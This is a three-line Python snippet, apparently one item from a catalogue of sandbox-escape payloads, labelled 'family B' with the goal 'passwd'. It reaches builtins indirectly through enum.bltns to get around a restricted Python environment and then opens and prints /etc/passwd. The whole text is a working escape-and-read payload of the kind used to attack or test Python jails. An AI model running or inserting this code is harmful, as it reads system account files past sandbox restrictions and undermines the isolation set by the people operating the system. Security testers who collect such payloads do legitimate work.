# family: B (enum.bltns is builtins)   goal: passwd
import enum
print(enum.bltns.open("/etc/passwd").read())
